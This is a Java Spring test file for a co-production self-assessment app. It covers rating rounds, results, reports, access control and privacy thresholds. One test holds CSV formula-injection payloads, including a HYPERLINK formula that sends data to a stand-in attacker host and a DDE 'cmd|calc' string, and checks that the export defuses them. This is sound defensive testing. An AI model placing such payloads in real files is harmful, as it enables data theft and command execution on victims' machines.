package org.coproduce.assessment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.coproduce.support.SignedIn.as;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.time.LocalDate;
import java.util.List;
import java.util.Set;
import org.coproduce.accounts.CurrentUser;
import org.coproduce.accounts.Role;
import org.coproduce.organisations.Organisation;
import org.coproduce.support.CoproduceTest;
import org.coproduce.support.Fixtures;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

@CoproduceTest
class RoundsTest {

    static final List<String> LADDER = List.of("1.1", "1.2", "1.3", "1.4", "1.5");

    @Autowired MockMvc mvc;
    @Autowired Fixtures fixtures;
    @Autowired FrameworkRepository frameworks;
    @Autowired Rounds rounds;
    @Autowired JdbcClient jdbc;

    Organisation northshire;
    CurrentUser priya;
    CurrentUser jamie;
    CurrentUser tom;
    CurrentUser aisha;
    CurrentUser kwame;
    CurrentUser grace;
    CurrentUser sam;
    long ladder;
    long round;

    @BeforeEach
    void setUp() {
        northshire = fixtures.organisation("Northshire Partnership");
        priya = fixtures.coordinator(northshire);
        jamie = fixtures.partner(northshire);
        tom = fixtures.staff(northshire);
        // Three on each side: results show a side apart only when it has at least three people.
        aisha = fixtures.member(northshire, "Aisha Begum", "Aisha", Role.PARTNER);
        kwame = fixtures.member(northshire, "Kwame Mensah", "Kwame", Role.PARTNER);
        grace = fixtures.member(northshire, "Grace Adeyemi", "Grace", Role.STAFF);
        sam = fixtures.member(northshire, "Sam Okafor", "Sam", Role.STAFF);
        ladder = frameworks.available(northshire.id()).stream().filter(f -> f.name().equals("Where is our work on the ladder?")).findFirst()
                .orElseThrow().frameworkId();
        round = rounds.start(priya, ladder, "Autumn check", LocalDate.now().plusWeeks(2), Set.of(jamie.personId(), tom.personId(),
                aisha.personId(), kwame.personId(), grace.personId(), sam.personId()));
    }

    @Test
    void startingARoundNeedsAFrameworkATitleAClosingDayNotPastAndPeopleToAsk() throws Exception {
        String page = mvc.perform(post("/assessment/rounds").with(as(priya)).with(csrf()).param("title", "")
                        .param("closesDay", "1").param("closesMonth", "1").param("closesYear", "2020"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();

        assertThat(page).contains("govuk-error-summary").contains("Choose the framework to rate").contains("Give the round a title")
                .contains("The closing day must be today or later").contains("Choose who to ask");
    }

    @Test
    void ratingsCanBeSavedHalfDoneAndAreSentOnlyWhenEveryIndicatorIsAnswered() throws Exception {
        mvc.perform(rate(jamie).param("rating-1.1", "MORE_TO_DO").param("comment-1.1", "We were asked in late").param("save", "yes"))
                .andExpect(redirectedUrl("/assessment/rounds/" + round + "/rate"));
        assertThat(page("/assessment/rounds/" + round + "/rate", jamie)).contains("We were asked in late");
        mvc.perform(get("/assessment/rounds/" + round + "/results").with(as(jamie))).andExpect(status().isNotFound());

        String refused = mvc.perform(rate(jamie).param("rating-1.1", "MORE_TO_DO").param("send", "yes"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(refused).contains("Rate 1.2, or choose \"Don't know\"").contains("Rate 1.5");

        mvc.perform(rateAll(jamie, "MORE_TO_DO").param("send", "yes")).andExpect(redirectedUrl("/assessment/rounds/" + round + "/results"));
        assertThat(page("/assessment/rounds/" + round + "/results", jamie)).contains("1 of 6 people have sent their ratings");
    }

    @Test
    void theResultsShowWhereTheGroupsDisagreeMostFirstWithoutNamesUnlessChosen() throws Exception {
        mvc.perform(rate(jamie).param("rating-1.1", "DOING_WELL").param("rating-1.2", "DOING_WELL").param("rating-1.3", "MORE_TO_DO")
                .param("rating-1.4", "DOING_WELL").param("rating-1.5", "DOING_WELL").param("comment-1.3", "Nobody showed us the designs")
                .param("send", "yes"));
        for (CurrentUser partner : List.of(aisha, kwame)) {
            mvc.perform(rate(partner).param("rating-1.1", "DOING_WELL").param("rating-1.2", "DOING_WELL").param("rating-1.3", "MORE_TO_DO")
                    .param("rating-1.4", "DOING_WELL").param("rating-1.5", "DOING_WELL").param("send", "yes"));
        }
        mvc.perform(rateAll(tom, "DOING_WELL").param("comment-1.2", "We share decisions").param("nameShown", "yes").param("send", "yes"));
        sendAll(List.of(grace, sam), "DOING_WELL");

        String results = page("/assessment/rounds/" + round + "/results", priya);
        assertThat(results.indexOf("1.3: People with lived experience design the answers")).isLessThan(results.indexOf("1.1: People with lived"));
        assertThat(results).contains("Groups see this very differently").contains("Nobody showed us the designs")
                .contains("(more to do, people with lived experience and carers)")
                .contains("(doing well, Tom, staff and board members)").doesNotContain("Jamie,");
    }

    @Test
    void theEasyReadFormAsksOneQuestionAtATimeAndSendsWhenAllAreAnswered() throws Exception {
        assertThat(page("/assessment/rounds/" + round + "/easy/1", jamie)).contains("Question 1 of 5")
                .contains("People with lived experience helped from the start.").contains("I do not know");
        String refused = mvc.perform(post("/assessment/rounds/" + round + "/easy/1").with(as(jamie)).with(csrf()))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(refused).contains("govuk-error-summary").contains("Choose an answer");

        mvc.perform(post("/assessment/rounds/" + round + "/easy/1").with(as(jamie)).with(csrf()).param("rating", "MORE_TO_DO")
                .param("comment", "We came in late")).andExpect(redirectedUrl("/assessment/rounds/" + round + "/easy/2"));
        assertThat(page("/assessment/rounds/" + round + "/easy/send", jamie)).contains("You answered 1 of 5 questions").contains("Question 2");
        mvc.perform(post("/assessment/rounds/" + round + "/easy/send").with(as(jamie)).with(csrf())).andExpect(status().isOk());

        for (int number = 2; number <= 5; number++) {
            mvc.perform(post("/assessment/rounds/" + round + "/easy/" + number).with(as(jamie)).with(csrf()).param("rating", "DONT_KNOW"));
        }
        mvc.perform(post("/assessment/rounds/" + round + "/easy/send").with(as(jamie)).with(csrf()))
                .andExpect(redirectedUrl("/assessment/rounds/" + round + "/results"));
        assertThat(page("/assessment/rounds/" + round + "/results", priya)).contains("We came in late");
        mvc.perform(get("/assessment/rounds/" + round + "/easy/6").with(as(jamie))).andExpect(status().isNotFound());
    }

    @Test
    void theGroupRecordsAnAgreedRatingWithWhoAgreedItAndAnActionThatIsLaterDone() throws Exception {
        sendAll(List.of(jamie, tom, aisha), "MORE_TO_DO");

        String refused = mvc.perform(post("/assessment/rounds/" + round + "/agreed").with(as(priya)).with(csrf())
                        .param("indicator", "1.2").param("agreed-1.2", "GETTING_THERE"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(refused).contains("govuk-error-summary").contains("Tick who agreed the rating for 1.2");

        mvc.perform(post("/assessment/rounds/" + round + "/agreed").with(as(priya)).with(csrf()).param("indicator", "1.2")
                .param("agreed-1.2", "GETTING_THERE").param("agreedBy-1.2", String.valueOf(jamie.personId()), String.valueOf(tom.personId()))
                .param("note-1.2", "Decisions are shared on the board but not yet in the working groups"));
        String results = page("/assessment/rounds/" + round + "/results", priya);
        assertThat(results).contains("Agreed in the meeting: getting there</strong>, by Jamie, Tom")
                .contains("That is higher than what people said on their own.");

        String noOwner = mvc.perform(post("/assessment/rounds/" + round + "/actions").with(as(priya)).with(csrf()).param("what", "Co-chairs for working groups"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(noOwner).contains("Choose who will do it").contains("Enter the day it should be done by").contains("Co-chairs for working groups");
        mvc.perform(post("/assessment/rounds/" + round + "/actions").with(as(priya)).with(csrf()).param("what", "Co-chairs for working groups")
                .param("owner", String.valueOf(priya.personId())).param("about", "1.2")
                .param("dueDay", "31").param("dueMonth", "1").param("dueYear", String.valueOf(LocalDate.now().getYear() + 1)));
        long action = jdbc.sql("select id from assessment_action where round_id = :round").param("round", round).query(Long.class).single();
        mvc.perform(post("/assessment/rounds/" + round + "/actions/" + action + "/done").with(as(priya)).with(csrf())
                .param("doneNote-" + action, "Aisha now co-chairs the housing group"));

        assertThat(page("/assessment/rounds/" + round + "/results", jamie)).contains("Co-chairs for working groups")
                .contains("What was done: Aisha now co-chairs the housing group");
        mvc.perform(post("/assessment/rounds/" + round + "/actions").with(as(jamie)).with(csrf()).param("what", "x")).andExpect(status().isForbidden());
        CurrentUser ruth = fixtures.coordinator(fixtures.organisation("Eastvale Carers"));
        mvc.perform(post("/assessment/rounds/" + round + "/agreed").with(as(ruth)).with(csrf()).param("indicator", "1.2")
                .param("agreed-1.2", "DOING_WELL")).andExpect(status().isNotFound());
    }

    @Test
    void aSecondRoundOfTheSameFrameworkShowsTheChangeSinceTheFirstAsAChartAndATable() throws Exception {
        mvc.perform(rateAll(jamie, "MORE_TO_DO").param("send", "yes"));
        long spring = rounds.start(priya, ladder, "Spring check", LocalDate.now().plusWeeks(3), Set.of(jamie.personId()));
        mvc.perform(post("/assessment/rounds/" + spring + "/rate").with(as(jamie)).with(csrf()).param("rating-1.1", "DOING_WELL")
                .param("rating-1.2", "DOING_WELL").param("rating-1.3", "DOING_WELL").param("rating-1.4", "DOING_WELL")
                .param("rating-1.5", "GETTING_THERE").param("send", "yes"));

        String results = page("/assessment/rounds/" + spring + "/results", priya);
        assertThat(results).contains("Progress since Autumn check").contains("<svg").contains("up 90");
        assertThat(page("/assessment/rounds/" + round + "/results", priya)).doesNotContain("Progress since");
    }

    @Test
    void theReportDownloadsAsAPdfAndTheFiguresAsCsvBothReadBack() throws Exception {
        mvc.perform(rateAll(jamie, "MORE_TO_DO").param("comment-1.4", "Nobody made us agree").param("send", "yes"));
        sendAll(List.of(aisha, kwame), "MORE_TO_DO");
        sendAll(List.of(tom, grace, sam), "DOING_WELL");
        mvc.perform(post("/assessment/rounds/" + round + "/agreed").with(as(priya)).with(csrf()).param("indicator", "1.1")
                .param("agreed-1.1", "GETTING_THERE").param("agreedBy-1.1", String.valueOf(jamie.personId())));

        byte[] pdf = mvc.perform(get("/assessment/rounds/" + round + "/report.pdf").with(as(priya)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        try (var document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            String text = new org.apache.pdfbox.text.PDFTextStripper().getText(document);
            assertThat(text).contains("Results: Autumn check").contains("Groups see this very differently")
                    .contains("Agreed in the meeting").contains("Nobody made us agree").contains("Action plan");
        }
        System.out.println("Self-assessment report for a 5-indicator round: " + pdf.length + " bytes");

        String csv = mvc.perform(get("/assessment/rounds/" + round + "/report.csv").with(as(priya))).andReturn().getResponse().getContentAsString();
        var rows = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new java.io.StringReader(csv)).getRecords();
        assertThat(rows).hasSize(5);
        var first = rows.stream().filter(r -> r.get("indicator").equals("1.1")).findFirst().orElseThrow();
        assertThat(first.get("lived_experience_more_to_do")).isEqualTo("3");
        assertThat(first.get("staff_and_board_doing_well")).isEqualTo("3");
        assertThat(first.get("gap")).isEqualTo("2.00");
        assertThat(first.get("agreed_rating")).isEqualTo("GETTING_THERE");
        assertThat(first.get("agreed_by")).isEqualTo("Jamie");

        mvc.perform(get("/assessment/rounds/" + round + "/report.pdf").with(as(jamie))).andExpect(status().isForbidden());
        CurrentUser ruth = fixtures.coordinator(fixtures.organisation("Eastvale Carers"));
        mvc.perform(get("/assessment/rounds/" + round + "/report.csv").with(as(ruth))).andExpect(status().isNotFound());
    }

    @Test
    void formulasTypedIntoAFrameworkOrANameAreDefusedInTheCsv() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Receipt\")";
        String source = frameworks.find(northshire.id(), ladder, null).orElseThrow().source()
                .replace("People with lived experience helped decide what the work is for, from the start.", "'" + formula + "'");
        CurrentUser mallory = fixtures.member(northshire, "Mallory Evans", "@SUM(1+1)*cmd|calc", Role.PARTNER);
        long ours = rounds.start(priya, frameworks.create(northshire.id(), priya.personId(), "Our ladder", source), "Our round",
                LocalDate.now().plusWeeks(1), Set.of(mallory.personId()));
        mvc.perform(post("/assessment/rounds/" + ours + "/agreed").with(as(priya)).with(csrf()).param("indicator", "1.1")
                .param("agreed-1.1", "GETTING_THERE").param("agreedBy-1.1", String.valueOf(mallory.personId())));

        String csv = mvc.perform(get("/assessment/rounds/" + ours + "/report.csv").with(as(priya))).andReturn().getResponse().getContentAsString();
        var first = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new java.io.StringReader(csv)).getRecords().stream().filter(r -> r.get("indicator").equals("1.1")).findFirst().orElseThrow();
        assertThat(first.get("doing_well")).isEqualTo("'" + formula);
        assertThat(first.get("agreed_by")).isEqualTo("'@SUM(1+1)*cmd|calc");
    }

    @Test
    void evidenceFilesAreCheckedAndSeenOnlyWithinTheOrganisationByThoseAllowedToSeeResults() throws Exception {
        var wrong = new org.springframework.mock.web.MockMultipartFile("evidenceFile-1.2", "plan.exe", "application/pdf", "MZ not a pdf".getBytes());
        String refused = mvc.perform(multipartRate(jamie).file(wrong).param("rating-1.2", "DOING_WELL").param("save", "yes"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(refused).contains("govuk-error-summary").contains("The evidence file for 1.2 must be a PDF, a Word document (.docx) or a photo");

        var plan = new org.springframework.mock.web.MockMultipartFile("evidenceFile-1.2", "our plan.pdf", "application/pdf", "%PDF-1.7 the plan".getBytes());
        var request = multipartRate(jamie).file(plan).param("send", "yes");
        for (String code : LADDER) {
            request.param("rating-" + code, "GETTING_THERE");
        }
        mvc.perform(request).andExpect(redirectedUrl("/assessment/rounds/" + round + "/results"));

        String results = page("/assessment/rounds/" + round + "/results", priya);
        assertThat(results).contains("Evidence: our plan.pdf");
        long file = jdbc.sql("select id from assessment_evidence_file where round_id = :round").param("round", round).query(Long.class).single();
        String path = "/assessment/rounds/" + round + "/evidence/" + file;
        assertThat(mvc.perform(get(path).with(as(priya))).andExpect(status().isOk()).andReturn().getResponse().getContentAsString())
                .isEqualTo("%PDF-1.7 the plan");
        mvc.perform(get(path).with(as(tom))).andExpect(status().isNotFound());
        mvc.perform(get(path).with(as(fixtures.coordinator(fixtures.organisation("Eastvale Carers"))))).andExpect(status().isNotFound());
    }

    private org.springframework.test.web.servlet.request.MockMultipartHttpServletRequestBuilder multipartRate(CurrentUser who) {
        var request = org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart("/assessment/rounds/" + round + "/rate");
        request.with(as(who)).with(csrf());
        return request;
    }

    @Test
    void aCommentTypedWithoutARatingIsKeptOnTheFormWithAnErrorRatherThanLost() throws Exception {
        String page = mvc.perform(rate(jamie).param("rating-1.1", "DOING_WELL").param("comment-1.2", "We only hear about it afterwards")
                        .param("save", "yes"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();

        assertThat(page).contains("govuk-error-summary").contains("Choose a rating for 1.2").contains("We only hear about it afterwards");
        assertThat(jdbc.sql("select count(*) from assessment_rating where round_id = :id").param("id", round).query(Integer.class).single()).isZero();
    }

    @Test
    void anEmptyRoundSaysSoHonestly() throws Exception {
        assertThat(page("/assessment/rounds/" + round + "/results", priya)).contains("Nobody has sent their ratings yet. 6 people have been asked");
    }

    @Test
    void afterTheClosingDayRatingsAreRefusedWithAClearMessage() throws Exception {
        jdbc.sql("update assessment_round set closes_on = current_date - 1 where id = :id").param("id", round).update();

        String page = mvc.perform(rateAll(jamie, "DOING_WELL").param("send", "yes")).andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString();

        assertThat(page).contains("govuk-error-summary").contains("This round closed on");
        assertThat(jdbc.sql("select count(*) from assessment_rating where round_id = :id").param("id", round).query(Integer.class).single()).isZero();
    }

    @Test
    void aRoundKeepsTheWordingItStartedWithWhenTheFrameworkChanges() throws Exception {
        long copy = frameworks.create(northshire.id(), priya.personId(), "Our ladder", frameworks.find(northshire.id(), ladder, null).orElseThrow().source());
        long ours = rounds.start(priya, copy, "Our round", LocalDate.now().plusWeeks(1), Set.of(jamie.personId()));
        String source = frameworks.find(northshire.id(), copy, null).orElseThrow().source();
        mvc.perform(post("/assessment/frameworks/" + copy + "/edit").with(as(priya)).with(csrf())
                .param("source", source.replace("from the start.", "from the very start.")));

        assertThat(page("/assessment/rounds/" + ours + "/rate", jamie)).contains("from the start.").doesNotContain("from the very start.");
        assertThat(page("/assessment/frameworks/" + copy + "?version=1", priya)).contains("1 round uses this version");
    }

    @Test
    void anotherOrganisationAndPeopleNotAskedCannotSeeARound() throws Exception {
        CurrentUser ruth = fixtures.coordinator(fixtures.organisation("Eastvale Carers"));
        mvc.perform(get("/assessment/rounds/" + round).with(as(ruth))).andExpect(status().isNotFound());
        mvc.perform(get("/assessment/rounds/" + round + "/results").with(as(ruth))).andExpect(status().isNotFound());
        mvc.perform(rateAll(ruth, "DOING_WELL").param("send", "yes")).andExpect(status().isNotFound());
        assertThat(page("/assessment", ruth)).doesNotContain("Autumn check");

        CurrentUser helen = fixtures.member(northshire, "Helen Ward", "Helen", Role.BOARD);
        mvc.perform(get("/assessment/rounds/" + round).with(as(helen))).andExpect(status().isNotFound());
    }

    @Test
    void theOnlyPersonWithLivedExperienceWhoSentRatingsCannotBePickedOutInTheResultsOrTheFigures() throws Exception {
        mvc.perform(rateAll(jamie, "MORE_TO_DO").param("comment-1.3", "Nobody showed us the designs").param("send", "yes"));
        sendAll(List.of(tom, grace, sam), "DOING_WELL");

        String results = page("/assessment/rounds/" + round + "/results", tom);
        assertThat(results).contains("Not shown: too few people to keep their ratings private")
                .doesNotContain("Groups see this").contains("Nobody showed us the designs")
                .doesNotContain("(more to do, people with lived experience and carers)");
        String csv = mvc.perform(get("/assessment/rounds/" + round + "/report.csv").with(as(priya))).andReturn().getResponse().getContentAsString();
        var first = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new java.io.StringReader(csv)).getRecords().get(0);
        assertThat(first.get("lived_experience_more_to_do")).isEmpty();
        assertThat(first.get("staff_and_board_doing_well")).isEmpty();
        assertThat(first.get("gap")).isEmpty();
    }

    private void sendAll(List<CurrentUser> raters, String rating) throws Exception {
        for (CurrentUser rater : raters) {
            mvc.perform(rateAll(rater, rating).param("send", "yes"));
        }
    }

    private MockHttpServletRequestBuilder rate(CurrentUser who) {
        return post("/assessment/rounds/" + round + "/rate").with(as(who)).with(csrf());
    }

    private MockHttpServletRequestBuilder rateAll(CurrentUser who, String rating) {
        MockHttpServletRequestBuilder request = rate(who);
        for (String code : LADDER) {
            request = request.param("rating-" + code, rating);
        }
        return request;
    }

    private String page(String path, CurrentUser who) throws Exception {
        return mvc.perform(get(path).with(as(who))).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
    }
}
